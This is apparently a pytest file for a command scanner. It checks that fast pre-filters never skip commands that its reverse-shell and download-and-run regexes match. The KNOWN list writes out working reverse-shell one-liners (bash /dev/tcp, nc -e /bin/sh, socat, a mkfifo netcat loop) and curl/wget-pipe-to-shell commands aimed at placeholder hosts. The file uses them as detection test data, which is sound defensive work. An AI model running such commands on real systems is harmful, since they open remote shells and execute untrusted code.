"""The cheap checks that let judging skip the reverse-shell and download-and-run searches
(issue 13) never skip a command those searches would match: checked on the commands of the
rule tests and on many commands made from the searches' own pieces, in both cases."""

from __future__ import annotations

import random
import re
from collections.abc import Callable

import pytest

from safecheck.scan.analysis.common import (
    DOWNLOAD_EXEC,
    NETWORK_SHELL,
    may_be_download_exec,
    may_be_network_shell,
)

KNOWN = (
    "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
    "nc -e /bin/sh 203.0.113.5 4444 ",
    "ncat -c bash 203.0.113.5 80 ",
    "/usr/bin/netcat -lvpe /bin/sh 4444 ",
    "nc.traditional -e /bin/bash x 1 ",
    "socat tcp:203.0.113.5:4444 exec:/bin/sh",
    "python3 -c 'import socket,os;s=socket.socket();s.connect((\"h\",1));os.dup2(1,0)'",
    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f",
    "sh -i <& /dev/udp/203.0.113.5/53",
    "curl -fsSL http://x.example/a.sh | sh",
    "wget -qO- http://x.example/a | python3",
    "echo aGk= | base64 -d | bash",
    'eval "$(curl -s http://x.example/a)"',
    "bash <(curl -s http://x.example/a)",
    "NC -E /BIN/SH 1.2.3.4 5 ",
    "BASH -I >& /DEV/TCP/1.2.3.4/5 0>&1",
)
PIECES = (
    "nc",
    "ncat",
    "netcat",
    "nc.traditional",
    "xnc",
    "_nc",
    "bench",
    "sync",
    "-e",
    "-c",
    "-lvpe",
    "-i",
    "-I",
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    ">&",
    "<&",
    "0>&1",
    "&",
    "/dev/tcp/",
    "/dev/udp/",
    "/DEV/TCP/",
    "1.2.3.4/80",
    "socat",
    "exec:",
    "system:",
    "python",
    "python3.11",
    "socket",
    "connect",
    "dup2",
    "mkfifo",
    "curl",
    "wget",
    "fetch",
    "|",
    "| sh",
    "|sudo bash",
    "base64",
    "--decode",
    "-d",
    "eval",
    '"$(',
    "$(",
    "<(",
    "(",
    ")",
    "sudo",
    "perl",
    "ruby",
    "php",
    "ſh",
    "K",
    "ſocat",
    "NC",
    "Netcat",
    "/bin/sh",
    "/usr/bin/x",
    "--config",
    ";",
    "\t",
)
SEPARATORS = (" ", " ", " ", "", "\t", ";", "/", "-", "\n")


def made_commands(count: int, seed: int) -> list[str]:
    chance = random.Random(seed)  # noqa: S311 - the same commands every run, no secret
    out = []
    for _ in range(count):
        words = chance.choices(PIECES, k=chance.randint(1, 9))
        out.append("".join(w + chance.choice(SEPARATORS) for w in words))
    return out


COMMANDS = (*KNOWN, *made_commands(30_000, 13))


@pytest.mark.parametrize(
    ("search", "may_match"),
    [(NETWORK_SHELL, may_be_network_shell), (DOWNLOAD_EXEC, may_be_download_exec)],
    ids=["network-shell", "download-exec"],
)
def test_a_command_the_search_matches_is_never_skipped(
    search: re.Pattern[str], may_match: Callable[[str], bool]
) -> None:
    matched = [c for c in COMMANDS if search.search(c)]
    assert len(matched) > 200  # the made commands do reach the searches
    assert [c for c in matched if not may_match(c)] == []


def test_the_known_attacks_match_and_ordinary_commands_are_skipped() -> None:
    assert all(NETWORK_SHELL.search(c) or DOWNLOAD_EXEC.search(c) for c in KNOWN)
    ordinary = (
        "/usr/bin/bench-daemon-7 --config /etc/bench/7.conf --foreground",
        "/usr/local/bin/bench-job-3 --quiet >/dev/null 2>&1",
        "/usr/sbin/cron -f -P $EXTRA_OPTS",
        "/usr/bin/rsync -a /home /backup",
    )
    assert not any(may_be_network_shell(c) for c in ordinary)
    assert not any(may_be_download_exec(c) for c in ordinary)


def test_text_that_is_not_ascii_is_always_searched() -> None:
    # "ſ" matches "s" when case is ignored: "ſocat" is found by the search, not by "socat" in
    assert NETWORK_SHELL.search("ſocat tcp:1.2.3.4:5 exec:/bin/sh")
    assert may_be_network_shell("ſocat tcp:1.2.3.4:5 exec:/bin/sh")
    assert may_be_download_exec("curl x ǀ sh")
